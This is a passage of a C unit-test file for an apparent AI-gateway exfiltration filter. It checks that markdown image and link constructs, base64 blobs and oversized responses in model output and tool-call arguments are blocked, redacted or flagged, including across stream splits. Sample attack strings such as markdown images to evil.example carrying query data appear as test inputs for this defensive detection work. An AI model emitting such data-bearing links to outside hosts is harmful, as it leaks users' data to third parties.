        every_split(c, A, texts[i]);
    F.conf_free(c);
    /* events only: the text goes through unchanged, the events are the same */
    c = load("type: exfil\nlinks: event\nblobs: {action: event, min_len: 32}\n");
    for (size_t i = 0; i < sizeof(texts) / sizeof(texts[0]); i++)
        every_split(c, A, texts[i]);
    F.conf_free(c);
    /* blobs in tool-call arguments, wrapped blobs */
    c = load("type: exfil\nlinks: redact\nblobs: {action: redact, min_len: 64}\n");
    every_split(c, GW_ROLE_TOOL_CALL_ARGS,
                "{\"a\":\"" B64 "QUJDREVG\\n" B64 "QUJD\",\"b\":\"\\u0041" B64 B64 "\"}");
    every_split(c, A, "w:\n" B64 "QUJDREVG\r\n" B64 "==\nx " B64 B64 B64 "\n");
    F.conf_free(c);
}

/* Blocks in a stream: before any byte of the construct (or blob) leaves. */
static void
test_stream_block(void **state)
{
    (void)state;
    static const struct {
        const char *yaml, *text, *from;
    } cases[] = {
        {"type: exfil\nlinks: block\nblobs: off\n",
         "one two ![x](https://evil.example/?d=1 \"t\") three", "!["},
        {"type: exfil\nlinks: block\nblobs: off\n", "one [l](<https://evil.example/a?b>) two",
         "[l]"},
        {"type: exfil\nlinks: off\nblobs: {action: block, min_len: 32}\n", "data " B64 " more",
         "QUJD"},
    };
    for (size_t t = 0; t < sizeof(cases) / sizeof(cases[0]); t++) {
        void *c = load(cases[t].yaml);
        const char *text = cases[t].text;
        size_t n = strlen(text), from = (size_t)(strstr(text, cases[t].from) - text);
        for (size_t a = 0; a <= n; a++)
            for (size_t b = a; b <= n; b++) {
                size_t cuts[2] = {a, b};
                struct gw_tx tx = {0};
                void *ctx = calloc(1, F.ctx_size);
                char *out;
                size_t consumed;
                enum gw_verdict v =
                    stream_through(c, &tx, ctx, A, 0, text, cuts, 2, 0, NULL, &out, &consumed);
                assert_int_equal(v, GW_BLOCK);
                assert_int_equal(tx.blocked, 1);
                if (consumed > from)
                    fail_msg("cuts %zu %zu: '%s' released before the block", a, b, out);
                F.on_tx_end(&tx, c, ctx);
                free(ctx);
                free(out);
            }
        F.conf_free(c);
    }
}

/* Streams text at the given cuts (flush: bit per cut) and returns what was released. */
static char *
stream_text(void *conf, struct gw_tx *tx, const char *text, const size_t *cuts, size_t ncuts,
            uint64_t flush)
{
    void *ctx = calloc(1, F.ctx_size);
    char *out;
    enum gw_verdict v =
        stream_through(conf, tx, ctx, A, 0, text, cuts, ncuts, flush, NULL, &out, NULL);
    assert_true(v == GW_PASS || v == GW_REDACT);
    F.on_tx_end(tx, conf, ctx);
    free(ctx);
    return out;
}

/* A timed flush releases everything: a construct cut there is judged as it stands (as if data
 * followed), and what comes after is still recognised. */
static void
test_stream_flush(void **state)
{
    (void)state;
    void *c = load("type: exfil\n" HOSTS "links: redact\nblobs: {action: redact, min_len: 32}\n");
    struct gw_tx tx = {0};
    const char *t1 = "a ![x](https://ev"
                     "il.example/?d=1) b";
    size_t cut1[] = {17};
    char *out = stream_text(c, &tx, t1, cut1, 1, 1);
    assert_string_equal(out, "a " IMG "il.example/?d=1) b");
    free(out);
    /* the host is complete and allowed: nothing may follow that would matter */
    const char *t2 = "a ![x](https://docs.example.com/p"
                     "?d=1) b";
    size_t cut2[] = {33};
    out = stream_text(c, &tx, t2, cut2, 1, 1);
    assert_string_equal(out, t2);
    free(out);
    /* "[a]" released at the flush; its destination still counts when it comes */
    const char *t3 = "x [a]"
                     "(https://evil.example/?d=1) y";
    size_t cut3[] = {5};
    out = stream_text(c, &tx, t3, cut3, 1, 1);
    assert_string_equal(out, "x [a]" LNK " y");
    free(out);
    /* the same after a replaced construct */
    const char *t4 = "[a](https://evil.example/?q=1)"
                     "(https://evil2.example/?d=1) y";
    size_t cut4[] = {30};
    out = stream_text(c, &tx, t4, cut4, 1, 1);
    assert_string_equal(out, LNK LNK " y");
    free(out);
    /* a blob growing across a flush: one marker, the rest dropped */
    const char *t5 = "k " B64 " z";
    size_t cut5[] = {20, 40};
    out = stream_text(c, &tx, t5, cut5, 2, 3);
    assert_string_equal(out, "k QUJDREVGR0hJSktMTU" BLOB " z"); /* 18 went out at 20 */
    free(out);
    /* a label released at a flush: replaced from its ']' */
    const char *t6 = "[long la"
                     "bel](https://evil.example/?d=1)";
    size_t cut6[] = {8};
    out = stream_text(c, &tx, t6, cut6, 1, 1);
    assert_string_equal(out, "[long label" LNK);
    free(out);
    F.conf_free(c);
}

/* What is held back, and for how long. */
static void
test_stream_hold(void **state)
{
    (void)state;
    void *c = load("type: exfil\n" HOSTS "links: redact\nblobs: {action: redact, min_len: 32}\n");
    struct gw_tx tx = {0};
    void *ctx = calloc(1, F.ctx_size);
    struct gw_chunk ch = {.role = A, .stream_id = 3};
    /* plain text: only a word that may grow into a blob is held */
    ch.text = strdup("Hello there, gen");
    ch.len = strlen(ch.text);
    assert_int_equal(F.on_resp_chunk(&tx, c, ctx, &ch), GW_PASS);
    assert_int_equal(ch.hold, 3);
    free(ch.text);
    /* an open bracket is held whole, up to 512 bytes */
    ch.text = strdup("gen! see ![al");
    ch.len = strlen(ch.text);
    ch.hold = 0;
    assert_int_equal(F.on_resp_chunk(&tx, c, ctx, &ch), GW_PASS);
    assert_int_equal(ch.hold, 4); /* "![al" */
    free(ch.text);
    F.on_tx_end(&tx, c, ctx);

    /* a label past 512 bytes is released; its construct is replaced from the ']' */
    memset(ctx, 0, F.ctx_size);
    char *big = malloc(700);
    big[0] = '[';
    memset(big + 1, 'w', 600);
    big[601] = '\0';
    for (int i = 1; i < 600; i += 7)
        big[i] = ' ';
    ch.text = strdup(big);
    ch.len = 601;
    ch.hold = 0;
    assert_int_equal(F.on_resp_chunk(&tx, c, ctx, &ch), GW_PASS);
    assert_true(ch.hold < 10); /* only a last word */
    free(ch.text);
    F.on_tx_end(&tx, c, ctx);
    free(big);

    /* a destination is read up to 2 KiB, then judged (blobs off: the path is one long run) */
    F.conf_free(c);
    c = load("type: exfil\n" HOSTS "links: redact\nblobs: off\n");
    memset(ctx, 0, F.ctx_size);
    char *d = malloc(3000);
    strcpy(d, "[a](https://docs.example.com/");
    size_t dl = strlen(d);
    memset(d + dl, 'p', 2100);
    for (size_t i = dl + 50; i < dl + 2100; i += 50)
        d[i] = '.';
    d[dl + 2100] = '\0';
    ch.text = strdup(d);
    ch.len = strlen(d);
    ch.hold = 0;
    assert_int_equal(F.on_resp_chunk(&tx, c, ctx, &ch), GW_PASS);
    assert_true(ch.hold < 64); /* allowed host: released, but for a last run */
    free(ch.text);
    F.on_tx_end(&tx, c, ctx);
    free(d);
    free(ctx);
    F.conf_free(c);
}

/* Two logical streams (a text and a tool call) interleaved keep their own state. */
static void
test_stream_interleaved(void **state)
{
    (void)state;
    void *c = load("type: exfil\nlinks: redact\nblobs: {action: redact, min_len: 32}\n");
    struct gw_tx tx = {0};
    void *ctx = calloc(1, F.ctx_size);
    const char *a[] = {"x ![i](https://e.example/", "?d=1) y"};
    const char *b[] = {"{\"k\":\"QUJDREVGR0hJSktMTU5P", "UFFSU1RVVldYWVphYmNk\"}"};
    char outa[256] = "", outb[256] = "";
    char *held[2] = {NULL, NULL};
    size_t hl[2] = {0, 0};
    for (int k = 0; k < 3; k++)
        for (int s = 0; s < 2; s++) {
            const char *piece = k < 2 ? (s ? b[k] : a[k]) : "";
            struct gw_chunk ch = {.role = s ? GW_ROLE_TOOL_CALL_ARGS : A, .stream_id = s};
            ch.len = hl[s] + strlen(piece);
            ch.text = malloc(ch.len + 1);
            if (hl[s])
                memcpy(ch.text, held[s], hl[s]);
            strcpy(ch.text + hl[s], piece);
            ch.final = k == 2;
            enum gw_verdict v = F.on_resp_chunk(&tx, c, ctx, &ch);
            assert_true(v == GW_PASS || v == GW_REDACT);
            strncat(s ? outb : outa, ch.text, ch.len - ch.hold);
            free(held[s]);
            hl[s] = ch.hold;
            held[s] = malloc(hl[s] + 1);
            memcpy(held[s], ch.text + ch.len - ch.hold, hl[s]);
            free(ch.text);
        }
    assert_string_equal(outa, "x " IMG " y");
    assert_string_equal(outb, "{\"k\":\"" BLOB "\"}");
    free(held[0]);
    free(held[1]);
    /* text after the end of a stream is a chain bug: an error, not a silent pass */
    struct gw_chunk late = {.role = A, .stream_id = 0, .text = strdup("x"), .len = 1};
    assert_int_equal(F.on_resp_chunk(&tx, c, ctx, &late), GW_ERROR);
    free(late.text);
    F.on_tx_end(&tx, c, ctx);
    free(ctx);
    F.conf_free(c);
}

/* ---- length ---- */

/* A response of n bytes of words ("word word ..."), malloc'd. */
static char *
words(size_t n)
{
    char *t = malloc(n + 1);
    for (size_t i = 0; i < n; i++)
        t[i] = "word "[i % 5];
    t[n] = '\0';
    return t;
}

static void
feed_whole(void *c, int route, size_t n, int times)
{
    for (int i = 0; i < times; i++) {
        struct gw_tx tx = {.route = route};
        enum gw_verdict v;
        char *t = words(n);
        char *out = whole(c, &tx, A, t, &v);
        assert_int_equal(tx.nev, 0);
        free(out);
        free(t);
    }
}

static int
length_flagged(void *c, int route, size_t n)
{
    struct gw_tx tx = {.route = route};
    enum gw_verdict v;
    char *t = words(n);
    char *out = whole(c, &tx, A, t, &v);
    free(out);
    free(t);
    return tx.nev;
}

static void
test_length(void **state)
{
    (void)state;
    void *c = load("type: exfil\nlinks: off\nblobs: off\n"
                   "length: {action: event, factor: 2, min_samples: 3, min_bytes: 10}\n");
    /* warming up: nothing is flagged before min_samples responses */
    feed_whole(c, 0, 100, 2);
    assert_int_equal(length_flagged(c, 0, 100000), 0); /* the third sample */
    F.conf_free(c);

    c = load("type: exfil\nlinks: off\nblobs: off\n"
             "length: {action: event, factor: 2, min_samples: 3, min_bytes: 10}\n");
    feed_whole(c, 0, 100, 3); /* baseline 100: limit 200 */
    assert_int_equal(length_flagged(c, 0, 200), 0);
    assert_int_equal(length_flagged(c, 1, 5000), 0); /* another route has its own baseline */
    /* baseline now (100 * 2/3 + 200 / 3) = 133.3 (200 fed), limit 266 */
    struct gw_tx tx = {.route = 0};
    enum gw_verdict v;
    char *t = words(10000), *out = whole(c, &tx, A, t, &v);
    assert_int_equal(v, GW_PASS);
    assert_string_equal(out, t);
    assert_int_equal(tx.nev, 1);
    assert_string_equal(tx.ev[0].rule_id, "exfil-length");
    assert_string_equal(tx.ev[0].category, "exfil:length");
    assert_string_equal(tx.ev[0].action, "event");
    assert_int_equal(tx.ev[0].offset, 266);
    free(out);
    free(t);
    /* the flagged response was fed as its limit (266), not 10000: (133.3 * 2 + 266) / 3 =
     * 177.7, limit 355 */
    assert_int_equal(length_flagged(c, 0, 354), 0);
    F.conf_free(c);

    /* min_bytes: short routes are not flagged for short answers */
    c = load("type: exfil\nlinks: off\nblobs: off\n"
             "length: {action: event, factor: 2, min_samples: 3, min_bytes: 1000}\n");
    feed_whole(c, 0, 10, 3);
    assert_int_equal(length_flagged(c, 0, 999), 0);
    assert_int_equal(length_flagged(c, 0, 1001), 1);
    F.conf_free(c);

    /* redact: cut at the limit, [TRUNCATED]; the later segments of the answer are emptied */
    c = load("type: exfil\nlinks: off\nblobs: off\n"
             "length: {action: redact, factor: 2, min_samples: 3, min_bytes: 10}\n");
    feed_whole(c, 0, 100, 3);
    struct gw_segment sv[3] = {{.role = A, .text = words(150), .len = 150},
                               {.role = GW_ROLE_TOOL_CALL_ARGS, .text = strdup("{}"), .len = 2},
                               {.role = A, .text = words(150), .len = 150}};
    struct gw_segments segs = {GW_DIR_RESPONSE, sv, 3, 3};
    memset(&tx, 0, sizeof(tx));
    void *ctx = calloc(1, F.ctx_size);
    assert_int_equal(F.on_resp_body(&tx, c, ctx, &segs), GW_REDACT);
    F.on_tx_end(&tx, c, ctx);
    free(ctx);
    char *w = words(150);
    assert_string_equal(sv[0].text, w);
    assert_string_equal(sv[1].text, "{}");
    assert_int_equal(strncmp(sv[2].text, w, 50), 0);
    assert_string_equal(sv[2].text + 50, "[TRUNCATED]");
    free(w);
    for (int i = 0; i < 3; i++)
        free(sv[i].text);
    F.conf_free(c);

    /* block: the answer is refused and the baseline does not take it */
    c = load("type: exfil\nlinks: off\nblobs: off\n"
             "length: {action: block, factor: 2, min_samples: 3, min_bytes: 10}\n");
    feed_whole(c, 0, 100, 3);
    for (int i = 0; i < 5; i++) {
        memset(&tx, 0, sizeof(tx));
        t = words(50000);
        out = whole(c, &tx, A, t, &v);
        assert_int_equal(v, GW_BLOCK);
        assert_int_equal(tx.blocked, 1);
        assert_non_null(strstr(tx.message, "far longer"));
        free(out);
        free(t);
    }
    memset(&tx, 0, sizeof(tx));
    t = words(201);
    out = whole(c, &tx, A, t, &v);
    assert_int_equal(v, GW_BLOCK); /* still 100: the limit is still 200 */
    free(out);
    free(t);
    F.conf_free(c);
}

static void
test_length_stream(void **state)
{
    (void)state;
    void *c = load("type: exfil\nlinks: redact\nblobs: off\n"
                   "length: {action: redact, factor: 2, min_samples: 2, min_bytes: 10}\n");
    /* the baseline from streams: a response counts once all its text streams ended */
    for (int i = 0; i < 2; i++) {
        struct gw_tx tx = {0};
        char *t = words(100);
        size_t cuts[] = {30, 60};
        char *out = stream_text(c, &tx, t, cuts, 2, 0);
        assert_int_equal(tx.nev, 0);
        free(out);
        free(t);
    }
    /* an unfinished stream (client gone) does not count (150 would make the limit 250) */
    struct gw_tx tx = {0};
    void *ctx = calloc(1, F.ctx_size);
    struct gw_chunk ch = {.role = A, .text = words(150), .len = 150};
    assert_int_equal(F.on_resp_chunk(&tx, c, ctx, &ch), GW_PASS);
    free(ch.text);
    F.on_tx_end(&tx, c, ctx);
    /* limit 200: cut there, [TRUNCATED], the rest of the stream dropped */
    memset(&tx, 0, sizeof(tx));
    char *t = words(400);
    size_t cuts[] = {150, 230, 300};
    char *out = stream_text(c, &tx, t, cuts, 3, 0);
    char *w = words(200);
    char want[512];
    snprintf(want, sizeof(want), "%s[TRUNCATED]", w);
    assert_string_equal(out, want);
    assert_int_equal(tx.nev, 1);
    assert_string_equal(tx.ev[0].rule_id, "exfil-length");
    assert_string_equal(tx.ev[0].action, "redact");
    free(out);
    free(t);
    free(w);
    /* a construct still held where the limit falls is not released in half: the cut moves to
     * its start (route 1: a baseline of 100 of its own, limit 200) */
    feed_whole(c, 1, 100, 2);
    memset(&tx, 0, sizeof(tx));
    tx.route = 1;
    t = words(190);
    char txt[512];
    snprintf(txt, sizeof(txt), "%s![a](https://evil.example/x.png) more words here", t);
    size_t cuts2[] = {200, 205};
    out = stream_text(c, &tx, txt, cuts2, 2, 0);
    snprintf(want, sizeof(want), "%s[TRUNCATED]", t);
    assert_string_equal(out, want);
    free(out);
    free(t);
    free(ctx);
    F.conf_free(c);

    /* block mid-stream */
    c = load("type: exfil\nlinks: off\nblobs: off\n"
             "length: {action: block, factor: 2, min_samples: 1, min_bytes: 10}\n");
    feed_whole(c, 0, 50, 1);
    memset(&tx, 0, sizeof(tx));
    ctx = calloc(1, F.ctx_size);
    t = words(300);
    size_t consumed;
    size_t cuts3[] = {60, 120};
    enum gw_verdict v = stream_through(c, &tx, ctx, A, 0, t, cuts3, 2, 0, NULL, &out, &consumed);
    assert_int_equal(v, GW_BLOCK);
    assert_int_equal(consumed, 60);
    F.on_tx_end(&tx, c, ctx);
    free(ctx);
    free(out);
    free(t);
    F.conf_free(c);
}

int
main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_conf),
        cmocka_unit_test(test_links),
        cmocka_unit_test(test_link_actions),
        cmocka_unit_test(test_blobs),
        cmocka_unit_test(test_stream_every_split),
        cmocka_unit_test(test_stream_block),
        cmocka_unit_test(test_stream_flush),
        cmocka_unit_test(test_stream_hold),
        cmocka_unit_test(test_stream_interleaved),
        cmocka_unit_test(test_length),
        cmocka_unit_test(test_length_stream),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
